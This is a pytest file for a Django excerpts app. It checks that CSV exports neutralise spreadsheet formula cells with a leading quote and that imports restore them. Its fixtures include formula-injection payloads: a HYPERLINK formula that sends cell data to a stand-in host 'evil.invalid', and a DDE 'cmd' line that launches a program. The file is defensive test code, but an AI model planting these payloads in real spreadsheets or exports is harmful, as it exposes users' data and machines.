"""
CSV cells a spreadsheet would run as formulas are neutralised with a quote in every CSV export (the API's, the
export command's, the admin's) and read back unchanged by the import.
"""

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from excerpts.models import Excerpt
from excerpts.resources import COLUMNS, SpreadsheetSafeCSV
from excerpts.spreadsheets import FORMULA_STARTS, PLAIN_NEGATIVE_NUMBER, neutralise, restore
from tests import factories

# Text a spreadsheet would run, each with the quotes, commas and line breaks CSV must carry as they are.
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1, "Click, please")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)\nand a second line"
ARITHMETIC = "-2+3"
TABBED = "\t=1+1"
RETURNED = "\r=1+1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        (SUM, "'" + SUM),
        (ARITHMETIC, "'-2+3"),
        (TABBED, "'\t=1+1"),
        (RETURNED, "'\r=1+1"),
        ("-", "'-"),
        ("-1958-", "'-1958-"),
        # A plain negative number is read as that number by a spreadsheet, which runs nothing: left as it is.
        ("-12", "-12"),
        ("-0.5", "-0.5"),
        # A quote already before a formula gets one more, so that the import's taking one off gives it back.
        ("'=1+1", "''=1+1"),
        ("'-12", "'-12"),
        ("1+1=2", "1+1=2"),
        ("Let a hundred flowers bloom.", "Let a hundred flowers bloom."),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_before_it_and_the_import_takes_it_off(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]), max_size=8))
def test_neutralising_then_restoring_gives_every_text_back_and_no_written_text_is_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert written in (text, "'" + text)
    assert not written.startswith(FORMULA_STARTS) or PLAIN_NEGATIVE_NUMBER.fullmatch(written)


@pytest.fixture
def formulas(db):
    speaker = factories.speaker("at-sum", "@SUM(1+1)")
    source = factories.source("plus-cmd", COMMAND, author="=1+1")
    return factories.excerpt(
        HYPERLINK,
        speaker=speaker,
        source=source,
        locator="-12",
        context=ARITHMETIC,
        translator=TABBED,
        original_text=SUM,
    )


def api_rows(user=None):
    client = factories.api_client(user)
    response = client.get(reverse("excerpt-list"), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_api_csv_quotes_each_formula_cell_and_leaves_the_rest_of_the_text_as_it_was(formulas):
    _, [row] = api_rows()
    assert (row["text"], row["speaker_name"], row["source_title"], row["source_author"]) == (
        "'" + HYPERLINK,
        "'@SUM(1+1)",
        "'" + COMMAND,
        "'=1+1",
    )
    assert (row["context"], row["translator"], row["original_text"]) == ("'-2+3", "'\t=1+1", "'" + SUM)
    assert row["locator"] == "-12"
    assert (row["id"], row["speaker_slug"], row["date"]) == (str(formulas.pk), "at-sum", "1958")
    # Read back by a CSV reader, every cell is the excerpt's value exactly, the one added quote apart.
    expected = {
        "text": HYPERLINK,
        "speaker_name": "@SUM(1+1)",
        "source_title": COMMAND,
        "source_author": "=1+1",
        "context": ARITHMETIC,
        "translator": TABBED,
        "original_text": SUM,
        "locator": "-12",
    }
    assert {column: restore(row[column]) for column in expected} == expected


def test_an_api_csv_with_formula_cells_imports_back_unchanged(formulas, curator, tmp_path):
    text, _ = api_rows(curator)
    path = tmp_path / "api.csv"
    path.write_text(text, encoding="utf-8", newline="")
    formulas.text = "Changed, so that the import has something to write."
    formulas.save()

    out = StringIO()
    call_command("import_excerpts", str(path), stdout=out, stderr=StringIO())

    assert out.getvalue().strip() == f"Imported {path}: 0 new, 1 updated, 0 unchanged."
    formulas.refresh_from_db()
    assert (formulas.text, formulas.context, formulas.translator, formulas.original_text, formulas.locator) == (
        HYPERLINK,
        ARITHMETIC,
        TABBED,
        SUM,
        "-12",
    )


def test_the_export_command_quotes_formula_cells_in_csv_and_leaves_json_as_it_is(formulas):
    out = StringIO()
    call_command("export_excerpts", stdout=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert (row["text"], row["context"], row["locator"]) == ("'" + HYPERLINK, "'-2+3", "-12")

    out = StringIO()
    call_command("export_excerpts", "--format", "json", stdout=out)
    [item] = json.loads(out.getvalue())
    assert (item["id"], item["text"], item["context"], item["locator"]) == (formulas.pk, HYPERLINK, ARITHMETIC, "-12")


def test_the_admin_exports_quoted_csv_and_its_import_takes_the_quotes_off(formulas, curator_client, tmp_path):
    selected = {f"excerptresource_{column}": "on" for column in COLUMNS}
    response = curator_client.post(
        reverse("admin:excerpts_excerpt_export"), {"format": "0", "resource": "0", **selected}
    )
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert (row["text"], row["translator"], row["locator"]) == ("'" + HYPERLINK, "'\t=1+1", "-12")

    dataset = SpreadsheetSafeCSV().create_dataset(response.content.decode())
    assert dict(zip(dataset.headers, dataset[0], strict=True))["text"] == HYPERLINK
    formulas.text = "Changed."
    formulas.save()
    path = tmp_path / "admin.csv"
    path.write_bytes(response.content)
    with path.open("rb") as handle:
        preview = curator_client.post(
            reverse("admin:excerpts_excerpt_import"), {"import_file": handle, "format": "0", "resource": "0"}
        )
    confirm = preview.context["confirm_form"]
    curator_client.post(reverse("admin:excerpts_excerpt_process_import"), {**confirm.initial, "resource": "0"})
    assert Excerpt.objects.get(pk=formulas.pk).text == HYPERLINK


def test_the_admin_json_export_keeps_its_text_and_numbers(formulas, curator_client):
    selected = {f"excerptresource_{column}": "on" for column in COLUMNS}
    response = curator_client.post(
        reverse("admin:excerpts_excerpt_export"), {"format": "1", "resource": "0", **selected}
    )
    [item] = json.loads(response.content)
    assert (item["id"], item["text"], item["context"]) == (formulas.pk, HYPERLINK, ARITHMETIC)
